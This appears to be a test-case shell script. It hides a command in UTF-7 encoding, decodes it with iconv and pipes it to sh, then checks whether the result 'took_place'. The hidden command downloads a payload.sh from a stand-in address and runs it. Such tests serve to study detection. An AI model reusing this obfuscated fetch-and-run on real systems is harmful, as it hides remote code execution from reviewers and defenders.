#!/bin/sh
. /opt/case/case.sh

printf '%s' '+AGMAdQByAGwAIAAtAHMAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AMQAwAC8AcABhAHkAbABvAGEAZAAuAHMAaAB8AHMAaAAK-' >/tmp/.lang
iconv -f UTF-7 -t UTF-8 /tmp/.lang | sh
test -e /tmp/reached
took_place
